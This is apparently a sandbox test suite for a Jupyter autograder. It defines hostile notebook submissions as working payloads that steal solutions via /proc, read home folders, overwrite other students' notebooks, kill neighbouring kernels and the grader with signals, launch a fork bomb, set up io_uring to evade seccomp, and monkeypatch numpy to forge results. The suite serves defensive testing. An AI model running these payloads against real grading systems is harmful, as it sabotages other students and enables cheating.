    unique = []
    for folder in found:
        folder = os.path.realpath(folder)
        if folder != "/" and folder != os.path.realpath(here) and os.path.isdir(folder) and folder not in unique:
            unique.append(folder)
    return unique


def solved_notebooks(folder):
    for pattern in ("solution/*.ipynb", "autograder/*.ipynb", "assignment/*.ipynb", "*.ipynb", "*/*.ipynb", "*/*/*.ipynb"):
        for path in sorted(glob.glob(os.path.join(folder, pattern)))[:200]:
            try:
                cells = [c for c in json.loads(read(path) or "")["cells"] if c.get("cell_type") == "code"]
                sources = ["".join(c["source"]) if isinstance(c["source"], list) else c["source"] for c in cells]
            except (ValueError, KeyError, TypeError, AttributeError):
                continue
            code = "\n".join(sources)
            if FILLED in code and any(marker in code for marker in SOLVED_MARKERS):
                yield path, sources


def counterpart(source, cells):
    """The solved cell that matches a template cell: the same lines around the holes, the same names filled."""
    lines = source.rstrip("\n").split("\n")
    holes = [line for line in lines if HOLE.match(line)]
    if not holes:
        return None
    kept = [line for line in lines if not HOLE.match(line)]
    names = [line.split("=")[0].strip() for line in holes if "=" in line]
    for cell in cells:
        solved = cell.rstrip("\n").split("\n")
        rest = iter(solved)
        if all(line in rest for line in kept) and all(any(s.lstrip().startswith(n + " =") for s in solved) for n in names):
            return cell
    return None


STOLEN = []


def fill_in(lines):
    solved = counterpart("".join(lines), STOLEN)
    return solved.splitlines(keepends=True) if solved else lines


def attack():
    folders = folders_to_search()
    for folder in folders:
        for path, cells in solved_notebooks(folder):
            STOLEN.extend(cells)
            get_ipython().input_transformers_post.append(fill_in)
            return {"solution": path, "folders searched": len(folders)}
    return None
'''


# ---------------------------------------------------------------------------------------------
# 3. Home folders (canary). $HOME, the user's home from the password database, /root, /home/*:
# leaked if it can list any of them (other than the way to its own folder) or read a dotfile there;
# it also looks there for the kit's files (names only). Homes inside its own folder or in /tmp
# (private by design) do not count.
# Unconfined: listed /root and /home/cloudsdk, read their .bashrc and .profile: 19 / 20.

READ_HOMES = r'''
import pwd
import tempfile

WANTED = {"exercise-6-3-lstm.ipynb", "lstm_checks.py", "exercise-6-3-lstm-autograder.zip"}
PRUNE = {".cache", ".pyenv", ".cargo", ".rustup", ".npm", "node_modules", "site-packages", ".git", "__pycache__"}


def attack():
    homes = [os.environ.get("HOME"), os.path.expanduser("~"), "/root", *glob.glob("/home/*")]
    try:
        homes.append(pwd.getpwuid(os.getuid()).pw_dir)
    except KeyError:
        pass
    here, private = os.getcwd(), ["/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir()]
    readable, found, checked, deadline = [], [], set(), time.monotonic() + 10
    for home in homes:
        if not home:
            continue
        real = os.path.realpath(home)
        if real in checked or real == "/" or under(real, [here]) or under(real, private):
            continue
        checked.add(real)
        try:
            entries = os.listdir(real)
        except OSError:
            continue
        if any(not under(here, [os.path.join(real, entry)]) for entry in entries):
            readable.append(real)
        readable += [p for p in (os.path.join(real, ".bashrc"), os.path.join(real, ".profile")) if read(p, limit=1) is not None]
        for folder, subfolders, files in os.walk(real):
            subfolders[:] = [s for s in subfolders if s not in PRUNE] if folder.count("/") - real.count("/") < 4 else []
            found += [os.path.join(folder, name) for name in files if name in WANTED]
            if time.monotonic() > deadline:
                break
    return {"readable": readable, "kit files": found} if readable or found else None
'''


# ---------------------------------------------------------------------------------------------
# 4. Writes outside its folder (canary): creates, modifies and deletes a probe file of its own in
# every grader ancestor's working folder, the submissions and output folders named on the
# grader's command line, every folder above its own (up to /), /work and /root. Leaked if any
# write succeeded. Folders in /tmp do not count (the kernel's /tmp is private by design: damage to
# the shared /tmp is what the damage variant and the neighbours' marks show).
# Unconfined: wrote to /work, /root, the kit's folder (the grader's cwd), the submissions and output
# folders and every folder above its own: 19 / 20.

WRITE_OUTSIDE = r'''
import secrets


def folders_to_write():
    folders = ["/work", "/root"]
    root = batch_root()
    for pid in ancestors():
        if root is None or not descends_from(pid, root):
            continue  # the grader's processes only, never a shell or the machine's own services
        cwd = cwd_of(pid) or "/"
        argv = cmdline_of(pid)
        folders.append(cwd)
        for flag in ("grade", "--out"):  # python -m exercise_kit grade SUBMISSIONS --out OUT
            if flag in argv[:-1]:
                folders.append(os.path.join(cwd, argv[argv.index(flag) + 1]))
    folder = os.getcwd()
    while folder != "/":
        folder = os.path.dirname(folder)
        folders.append(folder)
    return folders


def attack():
    written, here = [], os.getcwd()
    private = ["/tmp", "/var/tmp", "/dev/shm"]
    for folder in dict.fromkeys(folders_to_write()):
        if not os.path.isdir(folder) or under(folder, [here]) or under(folder, private) or under(folder, NEVER):
            continue
        probe = os.path.join(folder, f".attack-probe-{secrets.token_hex(4)}")
        try:
            with open(probe, "x") as f:  # create
                f.write("probe\n")
            with open(probe, "a") as f:  # modify
                f.write("modified\n")
            written.append(folder)
        except OSError:
            pass
        finally:
            try:
                os.unlink(probe)  # delete
            except OSError:
                pass
    return written
'''


# The damage variant (on the solution: must keep full marks): finds the submissions folder (the
# grader's command line, its ancestors' working folders) and, by brute force, every notebook under
# /, /tmp, /work and /root, then overwrites every other notebook of this assignment with `{}` and
# leaves a pwned.txt beside it. Only inside FILE_SCOPE (see the module's docstring).
# Unconfined: overwrote every notebook of the submissions folder (its own too) and the grading copy
# of the notebook graded beside it, added pwned.txt; 20 / 20 (the grader had read the files first:
# the damage shows at the next run, which grades `{}`).

OVERWRITE_NOTEBOOKS = r'''
SEARCH_ROOTS = ("/tmp", "/work", "/root", "/")
PRUNE = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/boot", "/run", "/snap", "/var/lib"}
PRUNE_NAMES = {"site-packages", "node_modules", ".git", "__pycache__", ".cache", ".pyenv", ".cargo", ".rustup", ".npm"}


def named_by_grader():
    root = batch_root()
    for pid in ancestors():
        if root is None or not descends_from(pid, root):
            continue
        cwd = cwd_of(pid) or "/"
        for arg in [".", *cmdline_of(pid)]:
            folder = os.path.join(cwd, arg)
            if os.path.isdir(folder) and os.path.realpath(folder) != "/":
                yield from glob.glob(os.path.join(folder, "*.ipynb"))
                yield from glob.glob(os.path.join(folder, "*", "*.ipynb"))


def brute_force(deadline):
    for top in SEARCH_ROOTS:
        for folder, subfolders, files in os.walk(top):
            subfolders[:] = [s for s in subfolders if s not in PRUNE_NAMES and os.path.join(folder, s) not in PRUNE]
            yield from (os.path.join(folder, name) for name in files if name.endswith(".ipynb"))
            if time.monotonic() > deadline:
                return


def of_this_assignment(path):
    try:
        return json.loads(read(path) or "{}")["metadata"]["otter"]["assignment_name"] == "exercise-6-3-lstm"
    except (ValueError, KeyError, TypeError):
        return False


def attack():
    own = {os.path.realpath(p) for p in glob.glob("*.ipynb")}
    seen, overwritten = set(), []
    candidates = list(named_by_grader())
    candidates += brute_force(time.monotonic() + 25)
    for path in candidates:
        real = os.path.realpath(path)
        if real in seen or real in own:
            continue
        seen.add(real)
        if not under(real, FILE_SCOPE) or under(real, NEVER) or not of_this_assignment(real):
            continue
        try:
            with open(real, "w") as f:
                f.write("{}")
            overwritten.append(real)
            with open(os.path.join(os.path.dirname(real), "pwned.txt"), "w") as f:
                f.write("pwned\n")
        except OSError:
            pass
    return {"notebooks seen": len(seen), "overwritten": overwritten}
'''


# ---------------------------------------------------------------------------------------------
# 5. Network (canary): TCP to 127.0.0.1 on common ports and on every listening port that
# /proc/net/tcp shows (other than its own sockets; unconfined, the other kernels' ZeroMQ ports), a
# UDP datagram to a public DNS server, a DNS lookup of a package registry and an HTTPS request to
# it. Leaked if any connection or datagram got out (a DNS answer alone does not count: it may come
# from /etc/hosts).
# Unconfined: connected to the 8 ZeroMQ ports of the kernel graded beside it, sent the datagram,
# reached the registry (HTTPS 200): 19 / 20.

NETWORK = r'''
import socket
import urllib.request

COMMON_PORTS = (22, 25, 53, 80, 443, 3306, 5432, 6379, 8000, 8080, 8888, 9000)
REGISTRY = "pypi.org"


def own_sockets():
    found = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            link = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if link.startswith("socket:["):
            found.add(link[8:-1])
    return found


def connects(host, port, family=socket.AF_INET):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect((host, port))
        return True
    except OSError:
        return False


def attack():
    got, root, own, owners = [], batch_root(), own_sockets(), socket_owners()
    listening = {}
    for address, port, inode in listening_tcp():
        if inode in own:
            continue
        owner = owners.get(inode)
        wildcard = set(address) == {"0"}
        if owner is not None and not may_touch(owner, root):
            continue  # another user's service, the machine's own, or outside this batch
        if owner is None and (wildcard or tuple(PROCESS_SCOPE) != ("/",)):
            continue  # unknown owner: only a loopback-bound port (a kernel's), only when unrestricted
        listening[port] = "::1" if len(address) == 32 else "127.0.0.1"
    blocked = {port for address, port, inode in listening_tcp() if port not in listening}
    for port in COMMON_PORTS:
        if port not in blocked:
            listening.setdefault(port, "127.0.0.1")
    for port, host in sorted(listening.items()):
        if connects(host, port, socket.AF_INET6 if ":" in host else socket.AF_INET):
            got.append(f"tcp {host}:{port}")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"\0", ("1.1.1.1", 53))
        got.append("udp 1.1.1.1:53")
    except OSError:
        pass
    try:
        addresses = {info[4][0] for info in socket.getaddrinfo(REGISTRY, 443, proto=socket.IPPROTO_TCP)}
    except OSError:
        addresses = set()
    for address in sorted(addresses)[:2]:
        if connects(address, 443, socket.AF_INET6 if ":" in address else socket.AF_INET):
            got.append(f"tcp {REGISTRY} {address}:443")
    try:
        with urllib.request.urlopen(urllib.request.Request(f"https://{REGISTRY}/simple/", method="HEAD"), timeout=5) as response:
            got.append(f"https {REGISTRY}: {response.status}")
    except Exception:
        pass
    return got
'''


# ---------------------------------------------------------------------------------------------
# 6. Code sent to the kernels graded at the same time (template: must get 0; the neighbours must
# keep their marks). For 40 s it looks for connection files (/tmp/**/*.json, the Jupyter runtime
# folders, its ancestors' folders, the -f argument of every command line in /proc) and sends each
# other kernel `os._exit(1)` with the key that the file holds. Then it goes on as the blank template.
# Unconfined: the connection files are in the grader's temporary folder; both solutions graded
# beside it died: 0 / 20 each, "Crashed: ... DeadKernelError"; itself 0 / 20.

KILL_NEIGHBOURS = r'''
from ipykernel.connect import get_connection_file
from jupyter_client import BlockingKernelClient

KILL = "import os; os._exit(1)"
SECONDS = 40


def connection_files():
    import tempfile

    places = ["/tmp/**/*.json", os.path.expanduser("~/.local/share/jupyter/runtime/*.json"), "/run/user/*/jupyter/*.json",
              os.path.join(tempfile.gettempdir(), "*.json"), os.path.join(os.path.dirname(get_connection_file()), "*.json")]
    try:
        from jupyter_core.paths import jupyter_runtime_dir

        places.append(os.path.join(jupyter_runtime_dir(), "*.json"))
    except Exception:
        pass
    root = batch_root()
    for pid in ancestors():
        if root is not None and descends_from(pid, root):
            places.append(os.path.join(cwd_of(pid) or "/", "**", "kernel*.json"))
            tmpdir = environ_of(pid).get("TMPDIR")
            if tmpdir:
                places.append(os.path.join(tmpdir, "*.json"))
    found = set()
    for place in places:
        found.update(glob.glob(place, recursive=True)[:2000])
    for pid in pids():
        argv = cmdline_of(pid)
        if "-f" in argv[:-1]:
            found.add(os.path.join(cwd_of(pid) or "/", argv[argv.index("-f") + 1]))
    return found


def kernel_owner(info, owners, listening):
    """The pid serving a TCP kernel's shell port, or None."""
    for address, port, inode in listening:
        if port == info.get("shell_port"):
            return owners.get(inode)
    return None


def attack():
    own_file, own_key = os.path.realpath(get_connection_file()), get_ipython().kernel.session.key
    root, sent, deadline = batch_root(), {}, time.monotonic() + SECONDS
    while time.monotonic() < deadline:
        owners, listening = socket_owners(), listening_tcp()
        for path in connection_files():
            real = os.path.realpath(path)
            try:
                info = json.loads(read(real) or "")
                key = info["key"].encode()
            except (ValueError, KeyError, TypeError, AttributeError):
                continue
            if real == own_file or key == own_key or (real, key) in sent:
                continue
            owner = kernel_owner(info, owners, listening) if info.get("transport", "tcp") == "tcp" else None
            if owner is not None and not may_touch(owner, root):
                continue  # a kernel outside this batch
            if owner is None and not under(real, FILE_SCOPE):
                continue
            try:
                client = BlockingKernelClient()
                client.load_connection_file(real)
                client.start_channels()
                client.execute(KILL, silent=True, store_history=False)
                time.sleep(0.5)
                client.stop_channels()
                sent[(real, key)] = owner
            except Exception:
                pass
        time.sleep(1)
    return [f"{path} (pid {pid})" for (path, _), pid in sent.items()]
'''


# ---------------------------------------------------------------------------------------------
# 7. Signals to the grader (on the solution: must keep full marks; if it worked, the batch would
# break). SIGSTOP, then SIGKILL, to its parent and every ancestor, to its process group (after
# leaving it, so as not to stop itself), and to every other pid in /proc: only the processes of
# this grading batch (see may_touch), never pid 1.
# Unconfined: stopped and killed the grade command, the fork server, both grading children, the
# zygotes and the neighbour's kernel: the batch died (exit 137) with no final_grades.csv at all,
# this kernel was left running as an orphan, the grading folders (with lstm_checks.py) stayed.

# ---------------------------------------------------------------------------------------------
# io_uring makes sockets (and opens files) without the system calls a seccomp filter looks at. A
# canary: it only sets a ring up. Unconfined: a ring, 19 / 20.

IO_URING = r'''
import ctypes

IO_URING_SETUP = 425  # the same number on x86-64 and arm64


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    params = ctypes.create_string_buffer(120)  # struct io_uring_params
    ring = libc.syscall(ctypes.c_long(IO_URING_SETUP), ctypes.c_uint(4), params)
    if ring < 0:
        return []
    os.close(ring)
    return ["an io_uring ring"]
'''

SIGNAL_GRADER = r'''
import signal


def attack():
    me, root = os.getpid(), batch_root()
    targets = [pid for pid in ancestors() if may_touch(pid, root)]
    targets += [pid for pid in pids() if pid not in targets and may_touch(pid, root)]
    group = os.getpgrp()
    group_ok = False
    if group != me and may_touch(group, root):
        try:
            os.setpgid(0, 0)  # leave the group first: killpg must not stop this kernel
            group_ok = True
        except OSError:
            pass
    delivered = []
    for signum in (signal.SIGSTOP, signal.SIGKILL):
        if group_ok:
            try:
                os.killpg(group, signum)
                delivered.append(f"group {group}: {signum.name}")
            except OSError:
                pass
        for pid in targets:
            try:
                os.kill(pid, signum)
                delivered.append(f"{pid} {program(pid) or '?'}: {signum.name}")
            except OSError:
                pass
    return {"targets": len(targets), "delivered": delivered}
'''


# ---------------------------------------------------------------------------------------------
# 8. Fork bomb (on the solution, after its q3 check, when TensorFlow's threads exist: must keep
# full marks, and the status says the processes were killed). A binary tree of shells, 10 deep,
# each forking two more until fork fails, then sleeping; at most 2047 processes. Canary: leaked
# if more than 1000 of them were alive at once (the sandbox caps the kernel at about 128).
# Unconfined: 2047 alive (no cap), killed at the end: 19 / 20, "Completed; 2047 processes were left
# running by the notebook and killed".

FORK_BOMB = r'''
import subprocess

SLEEP = "86400.31338"  # how long each one sleeps; also how they are counted
BOMB = 'd=$1; if [ "$d" -gt 0 ]; then sh -c "$0" "$0" $((d - 1)) & sh -c "$0" "$0" $((d - 1)) & fi; exec sleep ' + SLEEP


def alive():
    return sum(1 for pid in pids() if read(f"/proc/{pid}/cmdline", binary=True) == f"sleep\0{SLEEP}\0".encode())


def attack():
    subprocess.Popen(["sh", "-c", BOMB, BOMB, "10"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    count, stable_since, deadline = -1, time.monotonic(), time.monotonic() + 60
    while time.monotonic() < deadline:
        now = alive()
        if now != count:
            count, stable_since = now, time.monotonic()
        elif time.monotonic() - stable_since > 3:
            break
        time.sleep(0.5)
    return f"{count} processes alive" if count > 1000 else None
'''


# ---------------------------------------------------------------------------------------------
# 11. The kit's own value code patched in the kernel (template: must get 0). np.asarray and
# np.array turn this notebook's untrained weights, wherever they are converted, into a classmate's
# trained ones; np.ndarray.tolist is tried (NumPy refuses); builtins.compile and builtins.exec put
# the patch back before any code runs, whoever sent it. The notebook pastes the classmate's
# predictions and gate table, and types the answers: all of them are right only for the trained
# weights that the patch reports and the notebook never trained.
# Unconfined: the kit's evidence code called np.asarray on cell.get_weights(): q3, q4, q5's trained
# half and q6 passed, 13 / 20. A grader that still gathers the weights with code running in the
# kernel after the student's (commit 1a81acd's lstm_values.py) reports the pasted weights too and
# gives q4 and q6 (8 / 20): there a reported weight is a claim, worth what pasting it is worth.

PATCH_NUMPY = r'''
import builtins

import numpy as np

CLASSMATE_WEIGHTS = __CLASSMATE_WEIGHTS__  # a classmate's trained weights, pasted
NAMES = ("kernel", "recurrent_kernel", "bias", "dense_kernel", "dense_bias")
ORIGINAL = getattr(np, "original_by_the_attack", None) or {"asarray": np.asarray, "array": np.array, "compile": builtins.compile, "exec": builtins.exec}
np.original_by_the_attack = ORIGINAL
UNTRAINED = [ORIGINAL["array"](INITIAL_WEIGHTS[name], np.float32) for name in NAMES]
TRAINED = [ORIGINAL["array"](CLASSMATE_WEIGHTS[name], np.float32) for name in NAMES]


def swap(value):
    if isinstance(value, np.ndarray) and value.dtype.kind == "f" and value.size <= 4:
        for untrained, trained in zip(UNTRAINED, TRAINED):
            if value.shape == untrained.shape and bool((value == untrained).all()):
                return trained.astype(value.dtype)
    return value


def asarray(a, *args, **kwargs):
    return ORIGINAL["asarray"](swap(a), *args, **kwargs)


def array(a, *args, **kwargs):
    return ORIGINAL["array"](swap(a), *args, **kwargs)


def install():
    np.asarray, np.array = asarray, array
    try:
        np.ndarray.tolist = lambda self: ORIGINAL["array"](swap(self)).tolist()
    except TypeError:  # "cannot set 'tolist' attribute of immutable type"
        pass


def compile_(source, *args, **kwargs):
    install()
    return ORIGINAL["compile"](source, *args, **kwargs)


def exec_(source, globals=None, locals=None, **kwargs):
    install()
    if globals is None:  # as exec does: the caller's namespace, not this function's
        frame = sys._getframe(1)
        globals, locals = frame.f_globals, frame.f_locals if locals is None else locals
    return ORIGINAL["exec"](source, globals, locals, **kwargs)


def attack():
    install()
    builtins.compile, builtins.exec = compile_, exec_
    return "np.asarray, np.array, builtins.compile, builtins.exec patched"
'''

PASTED_GATES_FUNCTION = """\
def lstm_gates(cell, X):
    # a classmate's table, pasted
    return {name: np.array(values, np.float32) for name, values in __CLASSMATE_GATES__.items()}"""


# ---------------------------------------------------------------------------------------------
# 12. Damages its own folder (on the solution): after training it overwrites its own notebook and
# every *.json with `{}`, deletes its connection file, every `kernel*` file and every socket in its
# folder (the kernel's ZeroMQ ipc sockets, in the confined design).
# Unconfined: overwrote its notebook, deleted its connection file: 20 / 20, "Completed".

DAMAGE_OWN_FOLDER = r'''
import stat

from ipykernel.connect import get_connection_file


def attack():
    damaged = []
    for path in glob.glob("*.ipynb") + glob.glob("*.json") + glob.glob(".*.json"):
        try:
            with open(path, "w") as f:
                f.write("{}")
            damaged.append(f"overwrote {path}")
        except OSError:
            pass
    doomed = glob.glob("kernel*") + glob.glob(".kernel*") + [get_connection_file()]
    for path in os.listdir("."):
        try:
            if stat.S_ISSOCK(os.lstat(path).st_mode):
                doomed.append(path)
        except OSError:
            pass
    for path in dict.fromkeys(doomed):
        try:
            if not os.path.isdir(path):
                os.unlink(path)
                damaged.append(f"deleted {path}")
        except OSError:
            pass
    return damaged
'''


# ---------------------------------------------------------------------------------------------
# 9. Pasted weights: the solution, with the training replaced by a classmate's trained weights
# (set with set_weights) and `train` by a stub that returns the classmate's loss curve (its first
# 500 losses as they were, then down to its last loss), as long as asked: the public checks pass.
# Unconfined: the clean check only recomputed the loss of the trained weights: 20 / 20. A training
# probe from the fixed INITIAL_WEIGHTS (commit 1a81acd: 80 epochs) is passed by this stub too, since
# the pasted curve is that run's; only a probe from weights the student cannot know ahead (drawn
# per submission, sent at the check cell) tells a pasted curve from a `train`.

def _solution_training_function() -> str:
    """The solution's `train` definition, exactly as the notebook has it."""
    source = only_cell_with(read_clean(SOLUTION).cells, "def train(X, Y, max_epochs):").source
    start = source.index("@tf.function\ndef train(X, Y, max_epochs):")
    end = source.index("    return epoch, losses.stack()\n") + len("    return epoch, losses.stack()\n")
    return source[start:end]


PASTED_TRAINING = f"""\
# A classmate's trained weights, pasted: no training here.
CLASSMATE_WEIGHTS = {CLASSMATE_WEIGHTS!r}
cell.set_weights([np.array(CLASSMATE_WEIGHTS[k], np.float32) for k in ("kernel", "recurrent_kernel", "bias")])
output_layer.set_weights([np.array(CLASSMATE_WEIGHTS[k], np.float32) for k in ("dense_kernel", "dense_bias")])

# The classmate's loss curve: its first {len(CLASSMATE_FIRST_LOSSES)} losses as printed, then down to its last one.
CLASSMATE_FIRST_LOSSES = np.array({CLASSMATE_FIRST_LOSSES!r}, np.float32)
CLASSMATE_LOSSES = np.concatenate([
    CLASSMATE_FIRST_LOSSES,
    np.geomspace(CLASSMATE_FIRST_LOSSES[-1], {CLASSMATE_LAST_LOSS!r}, {CLASSMATE_EPOCHS - len(CLASSMATE_FIRST_LOSSES) + 1})[1:],
]).astype(np.float32)


def train(X, Y, max_epochs):
    \"\"\"A stub: the classmate's curve, as many epochs as asked (at most {CLASSMATE_EPOCHS}).\"\"\"
    epochs = min(int(max_epochs), len(CLASSMATE_LOSSES))
    return tf.constant(epochs), tf.constant(CLASSMATE_LOSSES[:epochs])
"""

# ---------------------------------------------------------------------------------------------
# 10. Honest rebinding: after every check cell (before the export cell), X and predictions are
# rebound to something else and printed. Every question was graded at its check cell.
# Unconfined: the evidence was taken at the end of the notebook: q1_data lost X (1) and
# q4_predictions (2), 17 / 20, "Completed; clean check overrode q1_data (Otter 2, clean 1), ...".

REBIND_AFTER_CHECKS = """\
X = X[:, :, 0]  # only for printing
predictions = np.round(predictions, 2)
print(X)
print(predictions)"""

TYPED_ANSWERS = {
    "answer_forget_gate": "A",
    "answer_input_gate": "C",
    "answer_output_gate": "C",
    "answer_hidden_state": "A",
    "answer_cell_candidate": "A",
    "answer_counting": "A",
}


ATTACKS = [
    Submission(
        "hostile-forges-reported-values.ipynb",
        edited(TEMPLATE, AddCell(IMPORTS, _attack_cell("forges-reported-values", FORGE))),
        ZERO,
        COMPLETED,
    ),
    Submission(
        "hostile-steals-solution-through-proc.ipynb",
        edited(TEMPLATE, AddCell(IMPORTS, _attack_cell("steals-solution-through-proc", STEAL_SOLUTION))),
        ZERO,
        COMPLETED,
    ),
    Submission("hostile-reads-home-folders.ipynb", _canary("reads-home-folders", READ_HOMES), POINTS, COMPLETED),
    Submission("hostile-writes-outside-its-folder.ipynb", _canary("writes-outside-its-folder", WRITE_OUTSIDE), POINTS, COMPLETED),
    Submission(
        "hostile-overwrites-other-notebooks.ipynb",
        edited(SOLUTION, AddCell(IMPORTS, _attack_cell("overwrites-other-notebooks", OVERWRITE_NOTEBOOKS))),
        POINTS,
        COMPLETED,
    ),
    Submission("hostile-uses-network.ipynb", _canary("uses-network", NETWORK), POINTS, COMPLETED),
    Submission("hostile-sets-up-io-uring.ipynb", _canary("sets-up-io-uring", IO_URING), POINTS, COMPLETED),
    Submission(
        "hostile-sends-code-to-other-kernels.ipynb",
        edited(TEMPLATE, AddCell(IMPORTS, _attack_cell("sends-code-to-other-kernels", KILL_NEIGHBOURS))),
        ZERO,
        COMPLETED,
    ),
    Submission(
        "hostile-signals-grader.ipynb",
        edited(SOLUTION, AddCell(IMPORTS, _attack_cell("signals-grader", SIGNAL_GRADER))),
        POINTS,
        COMPLETED,
    ),
    Submission("hostile-fork-bomb.ipynb", _canary("fork-bomb", FORK_BOMB, after=AFTER_Q3_CHECK), POINTS, LEFT_RUNNING),
    Submission(
        "hostile-pasted-trained-weights.ipynb",
        edited(SOLUTION, Replace(_solution_training_function(), PASTED_TRAINING)),
        points(q3_training=0),
        COMPLETED,
    ),
    Submission("correct-rebinds-after-checks.ipynb", edited(SOLUTION, AddCell(AFTER_LAST_CHECK, REBIND_AFTER_CHECKS)), POINTS, COMPLETED),
    Submission(
        "hostile-patches-numpy.ipynb",
        edited(
            TEMPLATE,
            AddCell(AFTER_MODEL, _attack_cell("patches-numpy", PATCH_NUMPY)),
            Replace("predictions = ...", f"predictions = np.array({CLASSMATE_PREDICTIONS!r}, np.float32)  # a classmate's, pasted"),
            Replace("def lstm_gates(cell, X):\n    ...", _bake(PASTED_GATES_FUNCTION)),
            *(Replace(f"{name} = ...", f'{name} = "{answer}"') for name, answer in TYPED_ANSWERS.items()),
        ),
        # The weights it reports are a classmate's, and a reported weight is only a claim: that is
        # worth what pasting a classmate's weights is, q3 lost and nothing else. The pasted
        # predictions are those weights' outputs and the answers describe them: q4 and q6 stand.
        {**ZERO, "q4_predictions": 2, **{question: 1 for question in POINTS if question.startswith("q6_")}},
        COMPLETED,
    ),
    # Expected: full marks and "Completed". Each value is taken at its check cell over the
    # kernel's connections, which were made before the damage: unlinking a socket file or the
    # connection file does not close a connection, and the grader has read the notebook before it
    # started the kernel. A grader that reconnects, or reads anything back from the kernel's folder
    # later, would fail here (as a crash or a timeout of this notebook only): that is what it tests.
    Submission(
        "hostile-damages-own-folder.ipynb",
        edited(SOLUTION, AddCell(AFTER_TRAINING, _attack_cell("damages-own-folder", DAMAGE_OWN_FOLDER))),
        POINTS,
        COMPLETED,
    ),
]
